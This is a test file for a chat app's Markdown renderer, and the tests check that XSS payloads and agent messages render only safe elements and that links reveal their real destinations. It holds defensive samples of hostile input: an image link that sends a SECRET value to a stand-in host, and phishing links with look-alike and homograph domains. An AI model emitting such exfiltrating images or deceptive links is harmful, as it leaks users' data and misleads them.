import { cleanup, render } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { Markdown } from '../../../src/chat/markdown/Markdown.tsx'
import payloads from '../../data/xss-payloads.json' with { type: 'json' }

const spoken = payloads.filter(({ kind }) => kind === 'message' || kind === 'agent')

/** Elements that a message may contain. */
const allowed = new Set(
  'A BLOCKQUOTE BR CODE DEL DIV EM HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(' '),
)

function elementsOf(text: string, isGrowing = false) {
  const { container } = render(<Markdown text={text} isGrowing={isGrowing} />)
  return [...container.querySelectorAll('*')]
}

describe('a message that is written to attack', () => {
  it.each(spoken.map(({ id, value }) => [id, value]))('T12 T23 %s loads and runs nothing', (_, value) => {
    for (const isGrowing of [false, true]) {
      const elements = elementsOf(value.replaceAll('OUT', 'https://out.example'), isGrowing)
      expect(elements.map(({ tagName }) => tagName).filter(tag => !allowed.has(tag))).toEqual([])
      const attributes = elements.flatMap(element => [...element.attributes])
      for (const { name, value: content } of attributes) {
        expect(['class', 'href', 'rel', 'target', 'start']).toContain(name)
        if (name === 'href') expect(content).toMatch(/^(https?|mailto|tel):/)
      }
      cleanup()
    }
  })

  it('a picture is a link that somebody may click', () => {
    const [link] = elementsOf('![chart](https://out.example/c.png?d=SECRET)').filter(
      ({ tagName }) => tagName === 'A',
    )
    expect(link?.textContent).toBe('chart')
  })
})

describe('a link', () => {
  const linkOf = (text: string) => {
    const { container } = render(<Markdown text={text} />)
    return { link: container.querySelector('a'), text: container.textContent }
  }

  it('opens elsewhere by a click alone and tells the other side nothing', () => {
    const { link } = linkOf('[us](https://a.example/x)')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(link?.getAttribute('href')).toBe('https://a.example/x')
  })

  it.each([
    ['[our bank](https://evil.example/login)', 'our bank (evil.example)'],
    ['[https://bank.example](https://evil.example)', 'https://bank.example (evil.example)'],
    ['[bank.example](https://bank.example.evil.test)', 'bank.example (bank.example.evil.test)'],
    ['[bank.example](https://bаnk.example)', 'bank.example (xn--bnk-6cd.example)'],
    ['[write](mailto:a@b.example)', 'write (a@b.example)'],
    ['https://a.example/x', 'https://a.example/x'],
    ['[a.example](https://www.a.example/)', 'a.example'],
    ['[](https://a.example)', 'a.example'],
    ['[+49 30 1234](tel:+49301234)', '+49 30 1234 (+49301234)'],
  ])('T23 shows where it leads if its words do not: %s', (text, shown) => {
    expect(linkOf(text).text).toBe(shown)
  })

  it('holds no other link', () => {
    const { container } = render(
      <Markdown text="[a https://b.example [c](https://d.example)](https://e.example)" />,
    )
    expect(container.querySelector('a a')).toBeNull()
  })
})

describe('a message', () => {
  it('is made of elements', () => {
    const { container } = render(
      <Markdown
        text={
          '# Hi\n\nA **b** _c_ ~~d~~ `e`\nf\n\n3. g\n   - h\n\n> i\n\n```\nj\n```\n\n|k|l|\n|-|-|\n|m|n|\n\n---'
        }
      />,
    )
    expect(container.innerHTML).toBe(
      '<div class="sw-text"><p class="sw-heading"><strong>Hi</strong></p>' +
        '<p>A <strong>b</strong> <em>c</em> <del>d</del> <code>e</code><br>f</p>' +
        '<ol start="3"><li>g<ul><li>h</li></ul></li></ol><blockquote><p>i</p></blockquote>' +
        '<pre class="sw-code"><code>j</code></pre>' +
        '<div class="sw-table"><table><thead><tr><th>k</th><th>l</th></tr></thead>' +
        '<tbody><tr><td>m</td><td>n</td></tr></tbody></table></div><hr></div>',
    )
  })

  it('grows in the elements it has', () => {
    const { container, rerender } = render(<Markdown text="We are **op" isGrowing />)
    const strong = container.querySelector('strong')
    rerender(<Markdown text="We are **open** today" isGrowing />)
    expect(container.querySelector('strong')).toBe(strong)
    expect(container.textContent).toBe('We are open today')
  })
})
